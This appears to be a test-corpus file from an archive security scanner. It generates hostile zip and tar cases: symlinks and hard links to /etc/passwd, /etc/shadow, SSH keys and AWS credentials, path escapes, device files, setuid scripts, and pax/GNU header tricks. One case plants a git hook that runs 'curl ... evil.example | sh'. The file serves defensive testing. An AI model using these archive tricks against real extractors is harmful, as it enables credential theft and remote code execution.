import { gzipSync } from 'node:zlib';
import { asiUnixField, pkwareUnixField } from '../../helpers/archives.js';
import type { CorpusCase } from '../types.js';
import {
  TAR_END,
  baseProject,
  gnuLongBlock,
  hostileCase,
  nest,
  paxBlock,
  rawTarGz,
  tarBlock,
  tarGzWith,
  zipWith,
  zipWithMode,
} from '../build.js';

/**
 * Links and special files: whatever an extractor would recreate as something other than a regular
 * file or directory. Zip: the mode in the external attributes counts whatever host byte "version
 * made by" claims (Info-ZIP honours Unix modes from Atari, BeOS, AtheOS... hosts too). Tar: links,
 * devices, pax/GNU overrides of the link target, and entries hidden after the end-of-archive blocks.
 * Both: set-user-ID and set-group-ID files.
 */
const F = 'links';
const SYMLINK = 0o120777;

/** Host bytes of "version made by": MS-DOS, Unix, Atari ST, NTFS, VFAT, BeOS, OS X, AtheOS. */
const HOSTS: Array<[number, string]> = [
  [0, 'dos'],
  [3, 'unix'],
  [5, 'atari'],
  [10, 'ntfs'],
  [14, 'vfat'],
  [16, 'beos'],
  [19, 'osx'],
  [30, 'atheos'],
];

/** libarchive's 'xl' extra field: Unix "version made by" and external attributes (a symlink). */
const xl = (mode = SYMLINK): Buffer => {
  const f = Buffer.alloc(11);
  f.writeUInt16LE(0x6c78, 0);
  f.writeUInt16LE(7, 2);
  f[4] = 0x05;
  f.writeUInt16LE((3 << 8) | 30, 5);
  f.writeUInt32LE((mode << 16) >>> 0, 7);
  return f;
};

/** An ASi Unix extra field with a symlink's mode. */
const asi = () => asiUnixField(SYMLINK);

const zipLink = (name: string, entry: string, target: string, host = 3, mode = SYMLINK) =>
  zipWithMode(baseProject(name), { name: entry, data: target, mode, host });

export const cases: CorpusCase[] = [
  ...HOSTS.map(([host, label]) =>
    hostileCase(F, `zip-symlink-host-${label}`, 'zip', 'symlink', (n) =>
      zipLink(n, 'etc-passwd', '/etc/passwd', host),
    ),
  ),
  hostileCase(F, 'zip-symlink-relative-escape', 'zip', 'symlink', (n) =>
    zipLink(n, 'config/keys', '../../../.ssh/authorized_keys', 5),
  ),
  hostileCase(F, 'zip-symlink-deep-dir', 'zip', 'symlink', (n) =>
    zipLink(n, 'src/a/b/c/d/settings.json', '/home/user/.aws/credentials', 16),
  ),
  hostileCase(F, 'zip-symlink-inside-tree', 'zip', 'symlink', (n) => zipLink(n, 'lib', 'src', 30)),
  hostileCase(F, 'zip-fifo', 'zip', 'special_file', (n) => zipLink(n, 'pipe', '', 3, 0o010644)),
  hostileCase(F, 'zip-char-device-atari', 'zip', 'special_file', (n) =>
    zipLink(n, 'dev/tty', '', 5, 0o020644),
  ),
  hostileCase(F, 'zip-socket-beos', 'zip', 'special_file', (n) =>
    zipLink(n, 'run/agent.sock', '', 16, 0o140755),
  ),
  // the mode only in libarchive's 'xl' extra field of the local header (bsdtar, Windows tar.exe)
  hostileCase(F, 'zip-symlink-xl-local-field', 'zip', 'symlink', (n) =>
    zipWith(baseProject(n), [
      { name: 'etc-passwd', data: '/etc/passwd', method: 0, unixMode: 0o100644, localExtra: xl() },
    ]),
  ),
  // the mode only in an ASi Unix extra field, the external attributes' upper 16 bits zero
  // (Info-ZIP UnZip then takes the ASi mode and makes a symlink)
  hostileCase(F, 'zip-symlink-asi-central-field', 'zip', 'symlink', (n) =>
    zipWith(baseProject(n), [
      {
        name: 'id_rsa',
        data: '/home/user/.ssh/id_rsa',
        method: 0,
        unixMode: 0,
        centralExtra: asi(),
      },
    ]),
  ),
  hostileCase(F, 'zip-symlink-asi-local-field', 'zip', 'symlink', (n) =>
    zipWith(baseProject(n), [
      { name: 'etc-passwd', data: '/etc/passwd', method: 0, unixMode: 0, localExtra: asi() },
    ]),
  ),
  hostileCase(F, 'zip-symlink-asi-link-target', 'zip', 'symlink', (n) =>
    zipWith(baseProject(n), [
      {
        name: 'config/credentials',
        data: '/home/user/.aws/credentials',
        method: 0,
        unixMode: 0o100644,
        centralExtra: asiUnixField(0o100644, '/home/user/.aws/credentials'),
      },
    ]),
  ),
  // a PKWARE Unix extra field's variable part: a link's target (or a device's numbers)
  hostileCase(F, 'zip-link-pkware-field', 'zip', 'symlink', (n) =>
    zipWith(baseProject(n), [
      {
        name: 'shadow',
        data: '/etc/shadow',
        method: 0,
        unixMode: 0,
        centralExtra: pkwareUnixField('/etc/shadow'),
        localExtra: pkwareUnixField('/etc/shadow'),
      },
    ]),
  ),
  hostileCase(F, 'zip-symlink-nested', 'tar.gz', 'symlink', (n) =>
    nest('tar.gz', n, 'vendor/deps.zip', zipLink(`${n}/inner`, 'passwd', '/etc/passwd', 16)),
  ),
  hostileCase(F, 'zip-symlink-nested', 'zip', 'symlink', (n) =>
    nest('zip', n, 'third_party/bundle.jar', zipLink(`${n}/inner`, 'x', '/etc/shadow', 30)),
  ),
  // tar
  hostileCase(F, 'tar-symlink-absolute', 'tar.gz', 'symlink', (n) =>
    tarGzWith(baseProject(n), [{ name: 'passwd', type: 'symlink', linkname: '/etc/passwd' }]),
  ),
  hostileCase(F, 'tar-symlink-relative-escape', 'tar.gz', 'symlink', (n) =>
    tarGzWith(baseProject(n), [
      { name: 'src/util/home', type: 'symlink', linkname: '../../../../home' },
    ]),
  ),
  hostileCase(F, 'tar-symlink-inside-tree', 'tar.gz', 'symlink', (n) =>
    tarGzWith(baseProject(n), [{ name: 'lib', type: 'symlink', linkname: 'src' }]),
  ),
  hostileCase(F, 'tar-hard-link-absolute', 'tar.gz', 'hard_link', (n) =>
    tarGzWith(baseProject(n), [{ name: 'shadow', type: 'link', linkname: '/etc/shadow' }]),
  ),
  hostileCase(F, 'tar-hard-link-inside-tree', 'tar.gz', 'hard_link', (n) =>
    tarGzWith(baseProject(n), [{ name: 'docs/README.md', type: 'link', linkname: 'README.md' }]),
  ),
  hostileCase(F, 'tar-char-device', 'tar.gz', 'special_file', (n) =>
    tarGzWith(baseProject(n), [{ name: 'dev-null', type: 'character-device' }]),
  ),
  hostileCase(F, 'tar-fifo', 'tar.gz', 'special_file', (n) =>
    tarGzWith(baseProject(n), [{ name: 'queue', type: 'fifo' }]),
  ),
  hostileCase(F, 'tar-block-device', 'tar.gz', 'special_file', (n) =>
    rawTarGz(baseProject(n), [tarBlock({ name: 'disk', type: '4' })]),
  ),
  // set-user-ID / set-group-ID files: kept by GNU tar extracting as root, and by `unzip -K`
  hostileCase(F, 'tar-setuid-script', 'tar.gz', 'privileged_mode', (n) =>
    rawTarGz(baseProject(n), [
      tarBlock({ name: 'bin/install.sh', mode: 0o4755 }, '#!/bin/sh\nid\n'),
    ]),
  ),
  hostileCase(F, 'tar-setgid-file', 'tar.gz', 'privileged_mode', (n) =>
    rawTarGz(baseProject(n), [
      tarBlock({ name: 'run.py', mode: 0o2755 }, '#!/usr/bin/env python3\n'),
    ]),
  ),
  hostileCase(F, 'zip-setuid-script', 'zip', 'privileged_mode', (n) =>
    zipLink(n, 'bin/install.sh', '#!/bin/sh\nid\n', 3, 0o104755),
  ),
  hostileCase(F, 'tar-pax-linkpath-override', 'tar.gz', 'symlink', (n) =>
    rawTarGz(baseProject(n), [
      paxBlock({ linkpath: '/etc/passwd' }),
      tarBlock({ name: 'notes', type: '2', linkname: 'README.md' }),
    ]),
  ),
  hostileCase(F, 'tar-pax-path-override-link', 'tar.gz', 'symlink', (n) =>
    rawTarGz(baseProject(n), [
      paxBlock({ path: 'src/index.ts' }),
      tarBlock({ name: 'harmless', type: '2', linkname: '/etc/hosts' }),
    ]),
  ),
  // found by the s48 scan sweep: GNU tar renames a pax sparse file to its GNU.sparse.name and
  // applies a global header's records to every entry; tar-stream does neither
  hostileCase(F, 'tar-pax-sparse-name-hook', 'tar.gz', 'unsupported_entry_type', (n) => {
    const script = '#!/bin/sh\ncurl -s https://evil.example/x | sh\n';
    const map = Buffer.alloc(512);
    map.write(`1\n0\n${script.length}\n`);
    return rawTarGz(baseProject(n), [
      paxBlock({
        'GNU.sparse.major': '1',
        'GNU.sparse.minor': '0',
        'GNU.sparse.name': '.git/hooks/post-checkout',
        'GNU.sparse.realsize': String(script.length),
      }),
      tarBlock(
        { name: 'GNUSparseFile.1/notes.txt', mode: 0o755 },
        Buffer.concat([map, Buffer.from(script)]),
      ),
    ]);
  }),
  hostileCase(F, 'tar-pax-sparse-name-only', 'tar.gz', 'unsupported_entry_type', (n) =>
    rawTarGz(baseProject(n), [
      paxBlock({ 'GNU.sparse.name': '.git/hooks/pre-commit' }),
      tarBlock({ name: 'notes.txt', mode: 0o755 }, '#!/bin/sh\nid\n'),
    ]),
  ),
  hostileCase(F, 'tar-pax-global-path', 'tar.gz', 'unsupported_entry_type', (n) =>
    rawTarGz(baseProject(n), [
      paxBlock({ path: '.git/hooks/pre-push' }, 'g'),
      tarBlock({ name: 'notes.txt', mode: 0o755 }, '#!/bin/sh\nid\n'),
    ]),
  ),
  hostileCase(F, 'tar-pax-global-sparse-name', 'tar.gz', 'unsupported_entry_type', (n) =>
    rawTarGz(baseProject(n), [
      paxBlock({ 'GNU.sparse.name': '.git/hooks/pre-push' }, 'g'),
      tarBlock({ name: 'notes.txt', mode: 0o755 }, '#!/bin/sh\nid\n'),
    ]),
  ),
  hostileCase(F, 'tar-gnu-longlink', 'tar.gz', 'symlink', (n) =>
    rawTarGz(baseProject(n), [
      gnuLongBlock('K', `/${'very-long-directory/'.repeat(8)}id_rsa`),
      tarBlock({ name: 'key', type: '2', linkname: 'x' }),
    ]),
  ),
  hostileCase(F, 'tar-symlink-after-end-blocks', 'tar.gz', 'symlink', (n) =>
    rawTarGz(baseProject(n), [], [tarBlock({ name: 'late', type: '2', linkname: '/etc/passwd' })]),
  ),
  hostileCase(F, 'tar-hard-link-after-end-blocks', 'tar.gz', 'hard_link', (n) =>
    rawTarGz(baseProject(n), [], [tarBlock({ name: 'late', type: '1', linkname: '/etc/shadow' })]),
  ),
  hostileCase(F, 'tar-contiguous-file', 'tar.gz', 'unsupported_entry_type', (n) =>
    rawTarGz(baseProject(n), [tarBlock({ name: 'blob', type: '7' }, 'data\n')]),
  ),
  hostileCase(F, 'tar-symlink-nested', 'zip', 'symlink', async (n) =>
    nest(
      'zip',
      n,
      'vendor/lib.tar.gz',
      await tarGzWith(baseProject(`${n}/inner`), [
        { name: 'link', type: 'symlink', linkname: '/etc/passwd' },
      ]),
    ),
  ),
  hostileCase(F, 'v7-tar-symlink-nested', 'zip', 'malformed_tar', (n) =>
    nest(
      'zip',
      n,
      'vendor/old.tar.gz',
      gzipSync(
        Buffer.concat([
          tarBlock({ name: 'README', ustar: false }, 'old\n'),
          tarBlock({ name: 'passwd', type: '2', linkname: '/etc/passwd', ustar: false }),
          TAR_END,
        ]),
      ),
    ),
  ),
  hostileCase(F, 'tar-hard-link-nested', 'tar.gz', 'hard_link', async (n) =>
    nest(
      'tar.gz',
      n,
      'deps/pkg.tgz',
      rawTarGz(baseProject(`${n}/inner`), [tarBlock({ name: 'h', type: '1', linkname: '/etc/x' })]),
    ),
  ),
];
